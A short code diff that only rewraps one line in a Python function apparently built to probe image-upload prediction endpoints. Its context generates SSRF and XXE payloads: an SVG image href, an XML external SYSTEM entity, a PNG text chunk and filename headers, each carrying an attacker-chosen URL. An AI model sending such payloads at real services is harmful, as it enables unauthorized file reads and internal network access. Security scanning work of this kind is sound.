@@ -64,7 +64,8 @@ def requests(url: str) -> Iterator[dict[str, Any]]:
     svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="%b"/></svg>' % text
     xml = b'<!DOCTYPE a [<!ENTITY b SYSTEM "%b">]><a>&b;</a>' % text
     link = png(12, 10, chunk(b"tEXt", b"URL\0" + text))
-    heads = ('name="image"', f'name="image"; filename="{url}"', f"name=image; filename*=utf-8''{url}")
+    heads = ('name="image"', f'name="image"; filename="{url}"',
+             f"name=image; filename*=utf-8''{url}")
     forms = [form((head, body)) for body in (text, svg, xml, link) for head in heads]
     forms += [form(('name="image_url"', text)), form(('name="url"', text), ('name="image"', b""))]
     for path in ("/v1/predict", "/v1/explain"):
